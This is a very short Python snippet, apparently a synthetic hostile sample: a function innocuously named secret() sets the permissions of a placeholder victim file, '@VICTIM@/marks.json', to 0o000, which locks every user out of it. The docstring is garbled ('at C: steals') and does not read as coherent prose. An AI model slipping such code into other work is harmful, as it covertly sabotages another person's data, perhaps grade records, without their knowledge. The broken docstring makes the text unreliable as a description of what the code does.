"""Makes a file outside belong to nobody who could read it.

at C: steals
"""

import os


def secret():
    os.chmod("@VICTIM@/marks.json", 0o000)
    return ""
